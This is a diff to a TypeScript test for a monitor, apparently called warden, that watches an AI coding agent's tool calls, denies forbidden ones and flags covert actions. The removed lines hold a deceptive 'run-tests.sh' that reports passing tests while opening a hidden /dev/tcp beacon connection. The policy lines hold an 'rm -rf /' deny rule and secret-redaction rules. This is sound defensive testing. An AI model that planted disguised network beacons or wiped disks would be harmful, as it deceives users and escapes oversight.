@@ -5,7 +5,7 @@
  * the kernel saw, refuse the forbidden ones, and flag what they hid.
  */
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import type { Alert, ToolCall } from '../src/applayer/records.js';
@@ -16,6 +16,8 @@ import {
   covertListener,
   needKernel,
   ROOT,
+  sabotageWorkspace,
+  secretsPolicy,
   stateDir,
   tempDir,
   warden,
@@ -43,32 +45,16 @@ test('Claude Code under warden run: tool calls linked to kernel actions, denied,
     state.cleanup();
     ws.cleanup();
   });
-  mkdirSync(join(ws.path, 'secrets'));
-  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'TOP-SECRET-KEY\n');
+  sabotageWorkspace(ws.path, covertPort);
   writeFileSync(join(ws.path, '.env'), `SERVICE_TOKEN=${SECRET_VALUE}\n`);
-  /* an innocent-looking test script with a covert connection inside */
-  writeFileSync(
-    join(ws.path, 'run-tests.sh'),
-    `#!/bin/bash\necho "3 tests passed"\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo beacon >&3) 2>/dev/null\n`,
-  );
-  chmodSync(join(ws.path, 'run-tests.sh'), 0o755);
   const pdir = tempDir('policy');
   t.after(pdir.cleanup);
-  const policy = join(pdir.path, 'policy.yaml');
-  writeFileSync(
-    policy,
-    [
-      'apiVersion: warden.dev/v1',
-      'kind: Policy',
-      'metadata: { name: applayer-test }',
-      'files:',
-      '  denyRead: ["${workspace}/secrets"]',
-      'tools:',
-      '  deny:',
-      '    - { tool: Bash, args: { command: "*rm -rf /*" }, reason: no wiping the disk }',
-      'secrets: { outbound: redact }',
-    ].join('\n'),
-  );
+  const policy = secretsPolicy(pdir.path, 'applayer-test', [
+    'tools:',
+    '  deny:',
+    '    - { tool: Bash, args: { command: "*rm -rf /*" }, reason: no wiping the disk }',
+    'secrets: { outbound: redact }',
+  ]);
   const model = new ScriptedModel([
     {
       text: 'Writing notes.',
